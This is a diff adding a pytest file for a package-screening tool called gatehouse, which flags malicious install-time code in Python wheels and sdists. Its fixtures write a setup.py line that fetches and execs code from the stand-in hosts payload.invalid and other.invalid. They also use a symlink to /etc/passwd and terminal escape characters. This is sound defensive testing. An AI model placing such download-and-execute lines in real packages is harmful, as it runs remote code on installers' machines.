@@ -1,0 +1,137 @@
+"""`gatehouse screen` as a user runs it: three forms, three exit codes, quiet in a pipe."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.support.distributions import build_sdist, build_wheel
+
+HOSTILE = 'import urllib.request\nexec(urllib.request.urlopen("http://payload.invalid/x").read())\n'
+SETUP = "from setuptools import setup\nsetup()\n"
+
+
+def screen(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
+    environment = {name: value for name, value in os.environ.items() if not name.startswith("GATEHOUSE_")}
+    command = [sys.executable, "-m", "gatehouse", "screen", *map(str, arguments)]
+    return subprocess.run(command, capture_output=True, text=True, check=False, env=environment, timeout=120)
+
+
+def write(folder: Path, distribution: tuple[str, bytes]) -> Path:
+    path = folder / distribution[0]
+    path.write_bytes(distribution[1])
+    return path
+
+
+@pytest.fixture
+def clean(tmp_path: Path) -> Path:
+    return write(tmp_path, build_wheel("clean", "1.0", files={"clean/__init__.py": "ANSWER = 42\n"}))
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    return write(tmp_path, build_sdist("hostile", "1.0", files={"setup.py": HOSTILE + SETUP}))
+
+
+def test_nothing_found_exits_0_and_says_so(clean: Path) -> None:
+    result = screen(clean)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.startswith("clean")
+    assert result.stderr == ""
+
+
+def test_something_at_the_queue_exits_1_and_shows_the_lines(clean: Path, hostile: Path) -> None:
+    result = screen(clean, hostile)
+    assert result.returncode == 1, result.stderr
+    assert "hold" in result.stdout
+    assert "hostile-1.0/setup.py:2 (install)" in result.stdout
+    assert 'exec(urllib.request.urlopen("http://payload.invalid/x").read())' in result.stdout
+
+
+def test_a_json_line_a_file_with_the_contracts_fields(hostile: Path, clean: Path) -> None:
+    result = screen("--format", "jsonl", hostile.parent)
+    rows = {Path(row["file"]).name: row for row in map(json.loads, result.stdout.splitlines())}
+    assert rows.keys() == {hostile.name, clean.name}
+    row = rows[hostile.name]
+    names = {"file", "sha256", "outcome", "tier", "score", "findings", "not_examined", "seconds"}
+    assert names <= row.keys()
+    assert (row["outcome"], row["tier"]) == ("flagged", "hold")
+    assert 0.9 <= row["score"] <= 1
+    (finding,) = row["findings"]
+    names = {"check", "version", "message", "member", "line", "context", "chain", "excerpt"}
+    assert names <= finding.keys()
+    assert (finding["check"], finding["line"], finding["context"]) == ("download-and-execute", 2, "install")
+    assert rows[clean.name]["findings"] == []
+
+
+def test_sarif_has_a_rule_and_a_place_for_each_finding(hostile: Path) -> None:
+    result = screen("--format", "sarif", hostile)
+    assert result.returncode == 1
+    log = json.loads(result.stdout)
+    assert log["version"] == "2.1.0"
+    (run,) = log["runs"]
+    rules = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
+    (found,) = run["results"]
+    assert found["ruleId"] in rules
+    assert found["level"] == "error"
+    location = found["locations"][0]["physicalLocation"]
+    assert location["artifactLocation"]["uri"].endswith("hostile-1.0.tar.gz")
+    assert location["region"]["startLine"] == 2
+
+
+def test_what_cannot_be_read_is_incomplete_and_exits_2(tmp_path: Path, clean: Path) -> None:
+    broken = tmp_path / "broken-1.0-py3-none-any.whl"
+    broken.write_bytes(b"not an archive at all")
+    result = screen(broken, clean)
+    assert result.returncode == 2
+    assert "INCOMPLETE, not clean" in result.stdout
+    (row, _) = map(json.loads, screen("--format", "jsonl", broken, clean).stdout.splitlines())
+    assert row["outcome"] == "incomplete"
+    assert row["incomplete_reason"]
+
+
+@pytest.mark.parametrize("name", ["missing.whl", "notes.txt", "nonsense.whl", "empty"])
+def test_misuse_is_one_line_and_exits_2(tmp_path: Path, name: str) -> None:
+    (tmp_path / "empty").mkdir()
+    (tmp_path / "notes.txt").write_text("notes")
+    (tmp_path / "nonsense.whl").write_text("nonsense")
+    result = screen(tmp_path / name)
+    assert result.returncode == 2
+    assert result.stderr.startswith("gatehouse: ")
+    assert len(result.stderr.splitlines()) == 1
+
+
+def test_a_source_folder_is_read_like_an_sdist(tmp_path: Path) -> None:
+    folder = tmp_path / "project"
+    folder.mkdir()
+    (folder / "setup.py").write_text(HOSTILE + SETUP)
+    (folder / "outside").symlink_to("/etc/passwd")
+    result = screen(folder)
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert "root:" not in result.stdout
+
+
+def test_previous_marks_what_was_there_before(tmp_path: Path, hostile: Path) -> None:
+    more = HOSTILE + 'exec(urllib.request.urlopen("http://other.invalid/y").read())\n' + SETUP
+    newer = write(tmp_path, build_sdist("hostile", "1.1", files={"setup.py": more}))
+    result = screen("--format", "jsonl", "--previous", hostile, newer)
+    assert result.returncode == 1
+    findings = {finding["excerpt"]: finding["new"] for finding in json.loads(result.stdout)["findings"]}
+    assert findings == {
+        'exec(urllib.request.urlopen("http://payload.invalid/x").read())': False,
+        'exec(urllib.request.urlopen("http://other.invalid/y").read())': True,
+    }
+
+
+def test_no_text_of_a_package_reaches_the_terminal_as_a_command(tmp_path: Path) -> None:
+    setup = HOSTILE.replace("payload", "\x1b[2J\u202epayload") + SETUP
+    path = write(tmp_path, build_sdist("escape", "1.0", files={"setup.py": setup}))
+    result = screen(path)
+    assert result.returncode in (1, 2)
+    assert "\x1b" not in result.stdout
+    assert "\u202e" not in result.stdout
